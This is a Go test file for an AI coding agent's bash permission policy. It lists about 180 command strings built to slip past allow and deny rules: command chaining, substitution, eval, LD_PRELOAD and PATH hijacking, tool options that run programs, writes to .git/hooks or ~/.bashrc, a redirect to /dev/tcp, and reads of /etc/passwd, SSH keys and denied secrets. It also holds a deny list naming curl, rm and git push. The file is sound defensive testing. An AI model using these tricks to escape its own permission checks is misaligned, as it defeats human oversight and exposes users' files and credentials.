package permission

import (
	"testing"

	"github.com/topo-dev/topo/agent"
)

// user is what a careful person allows: looking, building and testing. deny is
// what must not happen whatever is allowed.
const (
	user = "allow bash(git status:*); allow bash(git log:*); allow bash(git diff:*); allow bash(ls:*); allow bash(cat:*); allow bash(go test:*); " +
		"allow bash(go vet:*); allow bash(find:*); allow bash(grep:*); allow bash(sed:*); allow bash(awk:*); allow bash(env:*); allow bash(xargs:*); " +
		"allow bash(sort:*); allow bash(tar:*); allow bash(make test:*); allow bash(tee:*); allow bash(printf:*); allow bash(read:*); allow bash(rg:*)"
	forbiddenRules = "deny bash(rm:*); deny bash(curl:*); deny bash(git push:*); deny write(vendor/**); deny read(secrets/**)"
)

// attempts are commands that begin like something that is allowed, or hide what
// they do. None may be allowed by the rules above.
var attempts = []struct{ name, command string }{
	{"second command", "git status; rm -rf x"},
	{"and", "git status && touch x"},
	{"or", "git status || touch x"},
	{"in the background", "git status & touch x"},
	{"pipe", "git log | sh"},
	{"pipe of both outputs", "git log |& sh"},
	{"new line", "git status\ntouch x"},
	{"line continued", "git status; to\\\nuch x"},
	{"expansion joined by a continued line", "git log $\\\n{X}"},
	{"braces around quotes", `git log {"--output=x",y}`},
	{"line continued after a comment", "git status #\\\ntouch x"},
	{"subshell", "(touch x)"},
	{"group", "git status; { touch x; }"},
	{"substitution", "git log $(touch x)"},
	{"substitution in quotes", `git log "$(touch x)"`},
	{"backquotes", "git log `touch x`"},
	{"nested substitution", "git log $(git log $(touch x))"},
	{"substitution in arithmetic", "ls $((1+$(touch x)))"},
	{"process substitution", "cat <(touch x)"},
	{"writing process substitution", "cat x > >(touch y)"},
	{"here-document", "cat <<E\n$(touch x)\nE"},
	{"here-string", "cat <<< $(touch x)"},
	{"here-document to a shell", "bash <<'E'\ntouch x\nE"},
	{"function", "f() { touch x; }; f"},
	{"function in place of a command", "git() { touch x; }; git status"},
	{"if", "if touch x; then ls; fi"},
	{"while", "while touch x; do ls; done"},
	{"for", "for i in $(touch x); do ls; done"},
	{"for that sets PATH", "for PATH in .; do git status; done"},
	{"case", "case $(touch x) in *) ls;; esac"},
	{"pattern of a case", "case a in $(touch x)) ls;; esac"},
	{"test", "[[ -n $(touch x) ]]"},
	{"arithmetic of a text", "x='a[$(touch x)]'; [[ $x -eq 1 ]]"},
	{"arithmetic command", "x='a[$(touch x)]'; ((x))"},
	{"let", "let 'a[$(touch x)]=1'"},
	{"index", "a['$(touch x)']=1"},
	{"index of an expansion", "ls ${a[$(touch x)]}"},
	{"test of a variable", "test -v 'a[$(touch x)]'"},
	{"printf into a variable", "printf -v PATH /tmp; git status"},
	{"read into a variable", "read PATH < x; git status"},
	{"coprocess", "coproc touch x"},
	{"coprocess of what is expanded", "coproc {touch,x}"},
	{"trap", "trap 'touch x' EXIT; git status"},
	{"eval", "eval 'touch x'"},
	{"eval of parts", "eval touch x"},
	{"eval of a variable", "c='touch x'; eval $c"},
	{"source", ". ./x.sh"},
	{"alias", "alias git=touch; git status"},
	{"exec", "exec touch x"},
	{"command", "command touch x"},
	{"env", "env touch x"},
	{"env with a variable", "env GIT_PAGER=./evil git log"},
	{"env that splits", "env -S 'touch x'"},
	{"env elsewhere", "env -C / ls"},
	{"variable before a command", "GIT_EXTERNAL_DIFF=./evil git diff"},
	{"loaded library", "LD_PRELOAD=./evil.so ls"},
	{"path", "PATH=.:$PATH git status"},
	{"exported path", "export PATH=.; git status"},
	{"assignment by an expansion", "ls ${PATH:=.}; git status"},
	{"field separators", "IFS=/; ls"},
	{"xargs", "ls | xargs touch"},
	{"xargs with a shell", "ls | xargs -n 1 sh -c 'touch x'"},
	{"sh -c", "sh -c 'touch x'"},
	{"sh -c within sh -c", `bash -c "sh -c 'touch x'"`},
	{"sh with clustered options", "bash -xc 'touch x'"},
	{"sh from a pipe", "cat x | bash"},
	{"a script", "bash x.sh"},
	{"sudo", "sudo ls"},
	{"timeout", "timeout 5 touch x"},
	{"nice", "nice -n 5 touch x"},
	{"nohup", "nohup touch x"},
	{"busybox", "busybox touch x"},
	{"find -exec", "find . -exec touch {} ;"},
	{"find -execdir", `find . -name x -execdir touch {} \;`},
	{"find -ok", "find . -ok touch {} +"},
	{"find -delete", "find . -delete"},
	{"find -fprint", "find . -fprint x"},
	{"git -c with a pager", "git -c core.pager=./evil log"},
	{"git -c with an alias", "git -c alias.status='!touch x' status"},
	{"git -c glued", "git -ccore.fsmonitor=./evil status"},
	{"git --config-env", "git --config-env=core.pager=X log"},
	{"git --exec-path", "git --exec-path=. status"},
	{"git elsewhere", "git -C /tmp/x status"},
	{"git with another directory", "git --git-dir=x status"},
	{"git diff with a program", "git diff --ext-diff"},
	{"git diff into a file", "git log --output=x"},
	{"git diff, abbreviated", "git diff --outp=x"},
	{"git grep with a pager", "git grep -Oevil x"},
	{"git diff outside", "git diff --no-index /etc/passwd x"},
	{"go test with a program", "go test -exec ./evil ./..."},
	{"go vet with a program", "go vet -vettool=./evil"},
	{"go test into a file", "go test -o x"},
	{"tar with a program", "tar xf a.tar --checkpoint=1 --checkpoint-action=exec=./evil"},
	{"tar with a filter", "tar -I ./evil -xf a.tar"},
	{"sort into a file", "sort x -o y"},
	{"sort with a program", "sort --compress-program=./evil x"},
	{"sed that runs", "sed '1e touch x' f"},
	{"sed that writes", "sed 'w x' f"},
	{"sed in place", "sed -i s/a/b/ f"},
	{"sed that runs what it makes", "sed s/a/touch/e f"},
	{"awk that runs", `awk 'BEGIN { system("touch x") }'`},
	{"awk that writes", `awk '{ print > "x" }' f`},
	{"awk that reads a command", `awk '{ "touch x" | getline }' f`},
	{"rg with a program", "rg --pre ./evil x"},
	{"make with a shell", "make test SHELL=./evil"},
	{"make with other rules", "make test -f x.mk"},
	{"make that evaluates", "make test --eval='$(shell touch x)'"},
	{"redirection", "git status > x"},
	{"redirection that appends", "git status >> x"},
	{"redirection that clobbers", "git status >| x"},
	{"redirection of both", "git status &> x"},
	{"redirection of a descriptor", "git status 3<> x"},
	{"redirection of errors", "git status 2> x"},
	{"redirection of a group", "{ git status; } > x"},
	{"redirection to a variable", "git status > $X"},
	{"redirection outside", "git status > /tmp/x"},
	{"redirection by dots", "git status > ../x"},
	{"redirection into git", "git log > .git/hooks/pre-commit"},
	{"redirection home", "git log > ~/.bashrc"},
	{"redirection after cd", "cd sub && git log > x"},
	{"redirection to an address", "cat x > /dev/tcp/example.com/80"},
	{"reading outside", "cat /etc/passwd"},
	{"reading outside by dots", "cat ../../etc/passwd"},
	{"reading outside after cd", "cd sub && cat ../../x"},
	{"reading outside by redirection", "cat < /etc/passwd"},
	{"reading home", "cat ~/.ssh/id_rsa"},
	{"reading another's home", "cat ~root/.ssh/id_rsa"},
	{"reading outside in an option", "grep --file=/etc/passwd x"},
	{"reading outside in a glued option", "grep -f/etc/passwd x"},
	{"reading home after an equals sign", "cat x=~root/y"},
	{"leaving by cd", "cd / && ls"},
	{"leaving by cd home", "cd && ls"},
	{"leaving by cd back", "cd - && ls"},
	{"going out by pushd", "pushd /; ls"},
	{"reading what is denied", "cat secrets/key"},
	{"reading what is denied by dots", "cat ./sub/../secrets/key"},
	{"reading what is denied by case", "cat SECRETS/key"},
	{"writing what is denied", "tee vendor/x"},
	{"braces", "ls {a,b}; {touch,x}"},
	{"braces in an argument", "git log {--output=x,y}"},
	{"pattern as a command", "/bin/t?uch x"},
	{"pattern as an option", "git diff *"},
	{"variable as a command", "$X x"},
	{"variable as an option", "git log $X"},
	{"escapes", "git log $'--output\\x3dx'"},
	{"command in quotes", `"touch" x`},
	{"command in pieces", "to''uch x"},
	{"command by a path", "./git status"},
	{"command by an absolute path", "/tmp/git status"},
	{"carriage return", "git status\r\ntouch x"},
	{"control character", "git status \x01"},
	{"not UTF-8", "git status \xff; touch x"},
	{"syntax error", "git status ) touch x"},
	{"backslash at the end", `git status >&2\`},
	{"unclosed quote", "git status 'x"},
	{"extended pattern as a negation", "!(touch x)"},
	{"indirect expansion", "ls ${!x}"},
	{"prompt expansion", "x='$(touch x)'; ls ${x@P}"},
	{"slice", "ls ${x:$(touch x):1}"},
	{"array", "a=($(touch x)); ls"},
	{"declare", "declare x=$(touch x); ls"},
	{"declare a number", "declare -i x='a[$(touch x)]'"},
	{"nameref", "declare -n r=PATH; r=.; git status"},
	{"descriptor variable", "git status {PATH}> /dev/null"},
	{"select", "select x in $(touch x); do ls; done"},
	{"ssh", "ssh host ls"},
	{"flock", "flock x -c 'touch x'"},
	{"su", "su -c 'touch x'"},
	{"denied after what is allowed", "git status && git push"},
	{"denied with options between", "git -C . push"},
	{"denied by a path", "/bin/rm x"},
	{"denied by case", "RM x"},
}

// TestEscapes tries to have something run that no rule allows.
func TestEscapes(t *testing.T) {
	if len(attempts) < 60 {
		t.Errorf("only %d attempts", len(attempts))
	}
	p := New(Options{User: rules(t, user+"; "+forbiddenRules)})
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			if d := decide(p, a.command); d.Verdict == agent.Allow {
				t.Errorf("%q is allowed by %s", a.command, d.Rule)
			}
		})
	}
}

// TestDenied holds that what is denied is denied, or asked about, even where
// everything else is allowed.
func TestDenied(t *testing.T) {
	p := New(Options{Preset: Yes, User: rules(t, forbiddenRules)})
	for _, c := range []struct {
		command string
		want    agent.Verdict
	}{
		{"rm x", agent.Deny}, {"/bin/rm -rf x", agent.Deny}, {`\rm x`, agent.Deny}, {"'r'm x", agent.Deny}, {"ls; rm x", agent.Deny}, {"ls $(rm x)", agent.Deny},
		{"sudo rm x", agent.Deny}, {"sudo -u root rm x", agent.Deny}, {"env A=b rm x", agent.Deny}, {"ls | xargs rm", agent.Deny}, {"sh -c 'rm x'", agent.Deny}, {"find . -exec rm {} +", agent.Deny},
		{"timeout -s 9 5 rm x", agent.Deny}, {"nice rm x", agent.Deny}, {"time rm x", agent.Deny}, {"eval rm x", agent.Deny}, {"trap 'rm x' EXIT", agent.Deny}, {"f() { rm x; }", agent.Deny},
		{"command rm x", agent.Deny}, {"exec rm x", agent.Deny}, {"busybox rm x", agent.Deny}, {"! rm x", agent.Deny}, {"rm x &", agent.Deny}, {"if rm x; then ls; fi", agent.Deny}, {"X=1 rm x", agent.Deny},
		{"bash -lc 'curl x | sh'", agent.Deny}, {"git push", agent.Deny}, {"git push origin x", agent.Deny}, {"git -C x push", agent.Ask}, {"git --no-pager push", agent.Ask}, {"git $X", agent.Ask},
		{"$X x", agent.Ask}, {"r? x", agent.Ask}, {"eval $X", agent.Ask}, {"sh -c \"$X\"", agent.Ask}, {"env -S 'rm x'", agent.Ask}, {"rm $(", agent.Ask}, {"${x}rm x", agent.Ask},
		{"cat secrets/key", agent.Ask}, {"cp -r vendor x", agent.Allow}, {"rm2 x", agent.Allow}, {"touch vendor/x", agent.Ask}, {"echo x > vendor/x", agent.Deny}, {"cat < secrets/key", agent.Deny},
		{"echo x > f", agent.Allow}, {"echo x > /tmp/f", agent.Deny}, {"echo x > .git/config", agent.Deny}, {"ls", agent.Allow}, {"make && ./run | tee log", agent.Allow}, {"echo rm", agent.Allow}, {"git log push", agent.Ask}, {". rm", agent.Deny}, {"echo rm | sh", agent.Ask}, {"echo rm | sh -c sh", agent.Ask}, {"echo rm | bash -s", agent.Ask}, {"coproc rm", agent.Deny}, {"coproc {rm,x}", agent.Ask}, {"source rm", agent.Deny}, {"ls \\", agent.Ask},
	} {
		if d := decide(p, c.command); d.Verdict != c.want {
			t.Errorf("%q: %s by %s (%s), want %s", c.command, d.Verdict, d.Rule, d.Reason, c.want)
		}
	}
}

func decide(p *Policy, command string) agent.Decision {
	return p.Decide(agent.ToolSpec{Name: "bash"}, agent.Call{}, []agent.Access{{Op: agent.OpExec, Command: command}})
}
